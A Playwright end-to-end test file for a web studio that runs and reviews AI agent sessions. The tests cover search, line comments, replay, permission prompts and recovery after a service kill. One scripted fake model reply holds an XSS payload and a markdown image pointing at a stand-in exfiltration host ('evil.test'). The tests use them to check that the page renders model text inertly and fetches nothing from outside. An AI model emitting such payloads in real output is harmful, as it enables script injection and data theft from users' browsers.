// The studio in a real browser: what a person does with it, from the first load to a service that was killed meanwhile.
import { existsSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { TestService, until } from "../serve/service-support.ts";
import { repository } from "../support/run-cli.ts";
import { orSkipped } from "../support/skipping.ts";
import { noChromium, openBrowser, openStudio } from "./browser.ts";

const service = new TestService();
let browser: Browser;
const opened: Awaited<ReturnType<typeof openStudio>>[] = [];

describe.skipIf(noChromium)(orSkipped("the studio", noChromium), () => {
  beforeAll(async () => {
    const { file, config } = service.workspace;
    const tools = { command: process.execPath, args: [join(repository, "test/support/mcp-server.mjs")] };
    file(join(config, "mcp.json"), JSON.stringify({ mcpServers: { demo: tools } }));
    [browser] = await Promise.all([openBrowser(), service.start()]);
  });

  afterEach(async () => {
    for (const { context, errors } of opened.splice(0)) {
      await context.close();
      expect(errors).toEqual([]);
    }
  });

  afterAll(async () => {
    await browser?.close();
    await service.remove();
  });

  it("the studio removes the token from the page's address", async () => {
    const { page } = await open();
    await page.getByRole("link", { name: "New run" }).first().waitFor();
    expect(page.url()).toBe(`http://127.0.0.1:${service.info.port}/`);
    const plain = await openStudio(browser, { info: { ...service.info, token: "x" } } as TestService);
    await plain.page.getByText("This page needs its key").waitFor();
    await plain.context.close();
  });

  it("a run started from the form shows every tool as it works", async () => {
    const { page, requests } = await open();
    await page.getByRole("link", { name: "New run" }).first().waitFor();
    await page.keyboard.press("n");
    await page.getByLabel("What should be done?").fill("Try every tool\nand say what came of it");
    await chooseModel(page, prepare("medlar"));
    await page.getByLabel("Permission").selectOption("force");
    await page.getByRole("button", { name: "Start" }).click();
    await page
      .getByText(/^Done in/)
      .first()
      .waitFor();
    const timeline = page.getByRole("feed");
    await timeline.press("O");
    await timeline.press("g");
    const seen = new Set<string>();
    const names = "List Read Edit Delete Glob Grep Bash Todo Mcp WebFetch SemanticSearch".split(" ");
    for (let step = 0; step < 40 && !names.every((name) => seen.has(name)); step++) {
      for (const name of await timeline.locator(".cr-name").allTextContents()) seen.add(name);
      await timeline.press("j");
    }
    expect([...seen]).toEqual(expect.arrayContaining(names));
    // What a model says is text, whatever it looks like; pictures from elsewhere are not fetched.
    expect(await page.locator("img[onerror]").count()).toBe(0);
    expect(
      requests.filter((url) => !url.startsWith(`http://127.0.0.1:${service.info.port}/`) && !url.startsWith("data:")),
    ).toEqual([]);
  });

  it("the accessibility checker axe finds nothing serious in the studio, light or dark", async () => {
    const { page } = await open(await everyToolUsed());
    await page
      .getByText(/^Done in/)
      .first()
      .waitFor();
    const source = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      // By the debugger, since the page lets nobody else in.
      const rules = colorScheme === "dark" ? 'runOnly: ["color-contrast"],' : "";
      const found = await page.evaluate(`${source}; axe.run(document, { ${rules} resultTypes: ["violations"] })`);
      const serious = (found as any).violations.filter(({ impact }: any) => /serious|critical/.test(impact));
      expect(serious.map(({ id, nodes }: any) => [id, nodes.map(({ html }: any) => html.slice(0, 200))])).toEqual([]);
    }
  });

  it("the studio finds a session by a word and continues it", async () => {
    await everyToolUsed();
    const { page } = await open();
    await page.getByRole("link", { name: "New run" }).first().waitFor();
    await page.keyboard.press("/");
    await page.keyboard.type("persimmon");
    await page.locator(".item-snippet", { hasText: "persimmon" }).waitFor();
    await page.keyboard.press("Enter");
    await page.keyboard.press("Enter");
    await page.waitForURL(/\/sessions\/cursor\//);
    await page
      .getByText(/^Done in/)
      .first()
      .waitFor();
    await nextReply("That was all.");
    await page.getByLabel("Next prompt").fill("And once more?");
    await page.keyboard.press("Enter");
    await page.locator(".cr-user", { hasText: "And once more?" }).waitFor();
    await page.getByText("That was all.", { exact: true }).waitFor();
  });

  it("a focused session in the studio's list keeps the focus while the search changes or it changes group", async () => {
    await everyToolUsed();
    const { page } = await open();
    const field = page.getByLabel("Search all sessions");
    await field.fill("persim");
    const found = page.locator(".item", { has: page.locator(".item-snippet", { hasText: "persimmon" }) });
    await found.waitFor();
    // The rest of the word is searched for after 150 ms, when the focus has left the field.
    const searched = page.waitForResponse((response) => /[?&]search=persimmon(&|$)/.test(response.url()));
    await field.fill("persimmon");
    await field.press("Enter");
    await searched;
    await page.waitForTimeout(50);
    expect(await found.evaluate((item) => item === document.activeElement)).toBe(true);

    await field.fill("");
    const calls = [{ name: "Shell", args: { command: "until [ -e go-on ]; do sleep 0.1; done" } }];
    await start("Wait for the file", [{ calls }, { text: "It came." }], { force: true });
    const running = page.getByRole("region", { name: "Running" }).locator(".item", { hasText: "Wait for the file" });
    await running.focus();
    service.workspace.file("go-on", "");
    const ended = page.getByRole("region", { name: "Today" }).locator(".item", { hasText: "Wait for the file" });
    await ended.waitFor();
    expect(await ended.evaluate((item) => item === document.activeElement)).toBe(true);
  });

  it("the studio shows changes, and comments on lines reach the agent", async () => {
    const { page } = await open(await everyToolUsed());
    await page.getByRole("link", { name: /^Review/ }).click();
    const line = page.locator(".changed", { hasText: "a.ts" }).locator(".cr-change.cr-added").first();
    await line.hover();
    await line.getByRole("button").click();
    await page.getByLabel("Comment on this line").fill("Why forty-two?");
    await page.getByRole("button", { name: "Comment", exact: true }).click();
    await page.getByRole("button", { name: "By turn" }).click();
    await page.getByRole("heading", { name: "Turn 1" }).waitFor();
    await nextReply("It is the answer.");
    await page.getByRole("button", { name: "Send to the agent" }).click();
    const told = page.locator(".cr-user", { hasText: "Why forty-two?" });
    await told.waitFor();
    expect(await told.textContent()).toMatch(/src\/a\.ts:1/);
    await page.getByText("It is the answer.", { exact: true }).waitFor();
  });

  it("the studio replays a session with files as they were", async () => {
    const { page } = await open(await everyToolUsed());
    await page.getByRole("link", { name: "Replay" }).click();
    const moment = page.getByRole("slider");
    await moment.fill("0");
    await page.locator(".files-then button", { hasText: "src/a.ts" }).click();
    const file = page.locator(".file-then");
    expect(await file.textContent()).toContain("a = 1");
    await moment.fill(String(await moment.getAttribute("max")));
    await expect.poll(() => file.textContent()).toContain("a = 42");
    await moment.fill("2");
    await page.getByLabel("Speed").selectOption("50");
    await page.getByRole("button", { name: "Play" }).click();
    await expect.poll(async () => Number(await moment.inputValue())).toBeGreaterThan(8);
    await page.getByRole("link", { name: "Events" }).click();
    await page.locator(".raw-line", { hasText: "tool_end" }).first().click();
    await page.locator(".raw pre", { hasText: '"type": "tool_end"' }).waitFor();
  });

  it("a question is in the inbox of every studio tab, and one answer closes it everywhere", async () => {
    service.workspace.file("gone.txt", "x");
    const calls = [{ name: "Delete", args: { path: "gone.txt" } }];
    const run = await start("Remove it", [{ calls }, { text: "Removed." }]);
    const [{ page }, other] = [await open(), await open(`/runs/${run}`)];
    await other.page.getByRole("button", { name: "Allow once" }).waitFor();
    await page
      .getByRole("link", { name: /^Inbox/ })
      .first()
      .click();
    await page.getByText("1 waiting for you").waitFor();
    // A view takes keys from the moment after it is drawn.
    const pressed = async () => {
      await page.keyboard.press("y");
      return page.getByText("No open questions").count();
    };
    await expect.poll(pressed, { timeout: 20_000, interval: 500 }).toBe(1);
    await other.page.getByText("Removed.").waitFor();
    expect(await other.page.getByRole("button", { name: "Allow once" }).count()).toBe(0);
    expect(existsSync(join(service.workspace.path, "gone.txt"))).toBe(false);
  });

  it("the studio's page finds its restarted service after a kill, and can stop a run", async () => {
    const run = await start(
      "Take your time",
      [
        { text: "One.", calls: [{ name: "Shell", args: { command: "sleep 2.5; echo after" } }] },
        { text: "Two.", calls: [{ name: "Shell", args: { command: "sleep 60" } }] },
      ],
      { force: true },
    );
    const { page } = await open();
    await page.locator(".item", { hasText: "Take your time" }).first().click();
    await page.getByText("One.", { exact: true }).waitFor();
    await service.kill();
    await service.start();
    await page.getByText("Two.", { exact: true }).waitFor();
    expect(await page.getByText("One.", { exact: true }).count()).toBe(1);
    await page.getByLabel("Message to the agent").fill("look left");
    await page.getByRole("button", { name: "Queue" }).click();
    await page.locator(".pending", { hasText: "look left" }).waitFor();
    await page.getByRole("button", { name: "Stop", exact: true }).click();
    await page.getByText(/^Interrupted after/).waitFor();
    expect((await service.over(run)).state).toBe("cancelled");
  });

  it("the studio's command palette renames and deletes sessions", async () => {
    const { sessionId } = await service.over(await start("Say it", [{ text: "Said." }]));
    const { page } = await open(`/sessions/cursor/${sessionId}`);
    await page.getByText("Continue this session").or(page.getByLabel("Next prompt")).first().waitFor();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.keyboard.type("rename");
    await page.keyboard.press("Enter");
    await page.getByLabel("Title").fill("A better name");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "A better name" }).waitFor();
    await page.getByLabel("More").click();
    await page.getByRole("button", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await page.getByText("Session deleted").waitFor();
    expect(await page.locator(".item", { hasText: "A better name" }).count()).toBe(0);
  });

  it("the studio page fits on a phone", async () => {
    await everyToolUsed();
    const { page } = await open();
    await page.setViewportSize({ width: 390, height: 780 });
    await page.getByRole("button", { name: /Sessions/ }).click();
    await page.getByRole("dialog").locator(".item", { hasText: "Use every tool" }).click();
    await page.locator(".cr-row").first().waitFor();
    await page.getByRole("button", { name: "Details" }).click();
    await page.getByRole("dialog").getByText("Usage").waitFor();
    await page.keyboard.press("Escape");
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  });
});

/** In a tab of its own, which is closed when the test is over. */
async function open(path?: string): ReturnType<typeof openStudio> {
  const studio = await openStudio(browser, service, path === undefined ? {} : { path });
  opened.push(studio);
  return studio;
}

let used: Promise<{ model: string; path: string }> | undefined;

/** The address of a session in which every tool was used; made when the first test asks for it. */
async function everyToolUsed(): Promise<string> {
  used ??= (async () => {
    const model = prepare("persimmon");
    const { sessionId } = await service.over(await start("Use every tool", model, { force: true }));
    return { model, path: `/sessions/cursor/${sessionId}` };
  })();
  return (await used).path;
}

/** The files that `everyTool` works on, as they are before it, and its model. */
function prepare(lastWord: string): string {
  service.workspace.file("src/a.ts", "export const a = 1;\nexport const b = 2;\n");
  service.workspace.file("old.txt", "to be deleted\n");
  return service.script(everyTool(lastWord));
}

async function chooseModel(page: Page, name: string): Promise<void> {
  await page.locator(".chip-model").first().click();
  await page.getByLabel("Model").fill(name);
  await page.getByLabel("Model").press("Enter");
}

/** With a model, or with what a model of its own replies. */
async function start(text: string, replies: unknown, more: object = {}): Promise<string> {
  const model = typeof replies === "string" ? replies : service.script(replies);
  const body = { workspace: service.workspace.path, prompt: { text }, model, ...more };
  const run = (await service.call("POST", "/api/runs", body)).body.id as string;
  await until(async () => (await service.fleet.run(run))?.sessionId !== undefined, "the session");
  return run;
}

/** Each run plays its script from the beginning. */
async function nextReply(text: string): Promise<void> {
  const { model } = (await used)!;
  service.workspace.file(model.slice("script:".length), JSON.stringify([{ text }]));
}

function everyTool(lastWord: string) {
  const todos = [{ id: "1", content: "Look", status: "in_progress" }];
  return [
    {
      thinking: "Where to begin?",
      text: "<img src=x onerror=alert(1)> ![x](https://evil.test/?d=1) I begin.",
      calls: [
        { name: "LS", args: { path: "." } },
        { name: "Read", args: { path: "src/a.ts" } },
        { name: "Glob", args: { pattern: "**/*.ts" } },
        { name: "Grep", args: { pattern: "export" } },
        { name: "TodoWrite", args: { todos, merge: false } },
        { name: "SemanticSearch", args: { query: "where is a defined" } },
      ],
    },
    {
      text: "Now the changes.",
      calls: [
        { name: "Edit", args: { path: "src/a.ts", old_string: "a = 1", new_string: "a = 42" } },
        { name: "Write", args: { path: "made.txt", contents: "new\n" } },
        { name: "Delete", args: { path: "old.txt" } },
        { name: "Shell", args: { command: "printf '\\033[32mgreen\\033[0m\\n'" } },
        { name: "demo-add", args: { a: 1, b: 2 } },
        { name: "WebFetch", args: { url: "http://127.0.0.1:9/" } },
      ],
    },
    { text: `All of them were used: **${lastWord}**.` },
  ];
}
